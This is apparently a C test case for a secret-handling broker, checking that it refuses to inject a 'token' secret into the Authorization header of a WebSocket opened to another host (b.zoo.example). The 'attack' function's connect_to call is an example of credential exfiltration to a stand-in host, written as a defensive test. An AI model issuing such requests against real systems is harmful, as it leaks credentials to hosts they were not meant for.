/* Asks for its secret in the opening of a WebSocket to another host.
   Expect: not meant for
   Check: secret-slot */
#include "zoo.h"

static void attack(parley_id call) {
    connect_to(call, "{\"url\":\"wss://b.zoo.example/\",\"inject\":[{\"slot\":\"header:Authorization\",\"secret\":\"token\"}]}");
}
